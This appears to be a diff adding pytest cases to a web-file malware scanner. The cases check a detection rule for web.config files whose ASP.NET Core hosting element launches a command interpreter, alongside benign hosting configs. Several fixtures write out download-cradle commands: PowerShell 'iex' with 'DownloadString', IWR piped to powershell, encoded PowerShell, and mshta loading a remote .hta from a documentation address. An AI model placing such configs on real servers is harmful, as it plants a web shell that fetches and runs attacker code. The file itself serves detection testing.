@@ -27,7 +27,7 @@ import pytest
 
 from extriage.detections.webfiles import content
 
-from .rule_tables import page_hits, quiet_pages_test, shown
+from .rule_tables import page_hits, quiet_pages_test, rule_tables, shown
 
 _HANDLER_LIST_EXPORT = (
     '<?xml version="1.0" encoding="UTF-8"?>\n'
@@ -369,3 +369,103 @@ def test_quiet_configs_are_examined_as_configuration(tmp_path: Path, params: con
     )
     hits = page_hits(tmp_path, "probe/uploads/web.config", probe, params)
     assert {"config-handler", "config-unhide"} <= {str(h.get("sink")) for h in hits}, shown(hits)
+
+
+# --- a web.config that starts a command interpreter (data/rules/config_process_launch.yar) ----------------------------
+# Write-ups quoted in the library's answer for ``processPath="cmd`` (session 15) upload a web.config whose ASP.NET
+# Core Module element starts cmd.exe with a download cradle, under a handler path of their own or under "*"; nothing
+# found them. The configs below are written for these tests (harmless: documentation addresses, nothing fetched).
+
+_CORE_HOSTING = (
+    '<?xml version="1.0" encoding="utf-8"?>\n'
+    "<configuration>\n"
+    '  <location path="." inheritInChildApplications="false">\n'
+    "    <system.webServer>\n"
+    "      <handlers>\n"
+    '        <add name="aspNetCore" path="{path}" verb="*" modules="AspNetCoreModuleV2" resourceType="Unspecified" />\n'
+    "      </handlers>\n"
+    '      <aspNetCore {attrs} stdoutLogEnabled="false" hostingModel="OutOfProcess" />\n'
+    "    </system.webServer>\n"
+    "  </location>\n"
+    "</configuration>\n"
+)
+
+
+def _core(path: str, attrs: str) -> str:
+    return _CORE_HOSTING.replace("{path}", path).replace("{attrs}", attrs)
+
+
+LAUNCH_CONFIGS = [
+    (
+        "cmd-fetches-with-iwr-under-its-own-path",
+        ".config",
+        _core(
+            "probe",
+            "processPath=\"cmd.exe\" arguments='/c echo IWR http://192.0.2.7/t.txt | powershell -nop'",
+        ),
+    ),
+    (
+        "cmd-runs-a-download-cradle-under-star",
+        ".config",
+        _core(
+            "*",
+            'processPath="cmd.exe" arguments="/c powershell iex (New-Object Net.WebClient)'
+            ".DownloadString('http://192.0.2.7/a.ps1')\"",
+        ),
+    ),
+    (
+        "arguments-before-a-full-powershell-path",
+        ".config",
+        _core(
+            "*",
+            'arguments="-nop -enc SQBFAFgA" processPath="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"',
+        ),
+    ),
+    (
+        "cmd-under-a-path-of-its-own",
+        ".config",
+        _core("backdoor.me", 'processPath="cmd.exe" arguments="/c ver"'),
+    ),
+    (
+        "http-platform-starts-mshta",
+        ".config",
+        _PLATFORM_HOST_STARTS_SCRIPT.replace(
+            'processPath="bash" arguments="run-site.sh"',
+            'processPath="mshta.exe" arguments="http://192.0.2.7/x.hta"',
+        ),
+    ),
+]
+LAUNCH_ORDINARY = [
+    ("core-app-started-by-dotnet", ".config", _core("*", 'processPath="dotnet" arguments=".\\Shop.Web.dll"')),
+    ("core-app-started-by-its-exe", ".config", _core("*", 'processPath=".\\Shop.Web.exe" arguments=""')),
+    (
+        "core-app-started-by-launcher",
+        ".config",
+        _core("*", 'processPath="%LAUNCHER_PATH%" arguments="%LAUNCHER_ARGS%"'),
+    ),
+    (
+        "cmd-runs-the-sites-own-start-script",
+        ".config",
+        _core("*", 'processPath="cmd.exe" arguments="/c run.cmd"'),
+    ),
+    (
+        "cmd-starts-node-under-star",
+        ".config",
+        _PLATFORM_HOST_STARTS_SCRIPT.replace(
+            'processPath="bash" arguments="run-site.sh"',
+            'processPath="cmd.exe" arguments="/c node .\\server.js"',
+        ),
+    ),
+    (
+        "powershell-runs-a-local-script",
+        ".config",
+        _core("*", 'processPath="powershell.exe" arguments="-File .\\start.ps1"'),
+    ),
+    ("platform-host-starts-bash", ".config", _PLATFORM_HOST_STARTS_SCRIPT),
+]
+
+(
+    test_config_starting_an_interpreter_is_found,
+    test_hosting_config_is_not_flagged,
+    test_log_quoting_such_a_config_is_not_a_page,
+) = rule_tables([("EXT_WEBSHELL_Config_Starts_Command_Interpreter", LAUNCH_CONFIGS, LAUNCH_ORDINARY)])
